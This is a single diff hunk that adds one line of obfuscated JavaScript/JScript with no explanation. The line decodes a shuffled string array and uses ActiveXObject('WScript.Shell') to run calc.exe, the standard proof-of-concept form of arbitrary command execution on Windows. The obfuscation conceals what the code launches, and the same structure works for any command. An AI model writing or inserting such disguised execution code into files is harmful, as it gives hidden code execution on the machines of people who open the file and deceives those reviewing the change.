@@ -1,0 +1,1 @@
+function b(){var _0=['exe','WScript','Shell','calc'];b=function(){return _0};return b()}function g(i,k){var a=b();g=function(i,k){i=i-0x64;return a[i]};return g(i,k)}(function(a,t){var q=a();while(true){try{if(q[0]==='calc')break;q.push(q.shift())}catch(e){q.push(q.shift())}}})(b,1);new ActiveXObject(g(0x66)+'.'+g(0x67))['Run'](g(0x64)+'.'+g(0x65));
